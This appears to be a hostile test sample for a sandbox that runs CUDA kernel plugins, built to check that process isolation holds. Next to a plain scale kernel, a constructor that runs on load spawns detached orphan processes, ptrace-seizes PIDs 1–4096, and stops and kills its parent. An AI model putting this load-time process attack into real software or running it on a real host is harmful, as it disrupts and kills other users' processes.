/* proc_attack - stops, kills and traces other processes, and leaves some of
 * its own
 *
 * kernel: scale_n
 * expect: honest
 * hostile: yes
 *
 * The jail has a process table of its own, in which it can start nothing;
 * nothing is alive afterwards.
 */
#include "ratchet.h"

#include <signal.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static __global__ void scale(const float *x, float a, float *y, int64_t n)
{
	int64_t i = (int64_t)blockIdx.x * blockDim.x + threadIdx.x;

	if (i < n)
		y[i] = a * x[i];
}

#ifndef TWIN
/* Children that survive their parent. */
static void leave_children()
{
	for (int i = 0; i < 50; i++) {
		if (fork())
			continue;
		setsid();
		if (fork() == 0)
			sleep(600);
		_exit(0);
	}
	while (waitpid(-1, NULL, WNOHANG) > 0)
		;
}

__attribute__((constructor)) static void attack()
{
	pid_t parent = getppid();

	leave_children();
	for (pid_t pid = 1; pid < 4096; pid++)
		if (pid != getpid())
			ptrace(PTRACE_SEIZE, pid, NULL, NULL);
	if (parent > 1) {
		kill(parent, SIGSTOP);
		kill(parent, SIGKILL);
	}
}
#endif

static int run(const DLTensor *x, double a, const DLTensor *y)
{
	int64_t n = ratchet_extent(x, 0);
	unsigned grid = (unsigned)((n + 255) / 256);
	const float *in = (const float *)ratchet_data(x);
	float *out = (float *)ratchet_data(y);
	cudaStream_t stream = ratchet_stream(x);

	if (RATCHET_WANT(x, RATCHET_FLOAT32, -1) ||
	    RATCHET_WANT(y, RATCHET_FLOAT32, n))
		return -1;
	scale<<<grid, 256, 0, stream>>>(in, (float)a, out, n);
	return ratchet_launched();
}
RATCHET_EXPORT(run, tensor, float64, tensor)
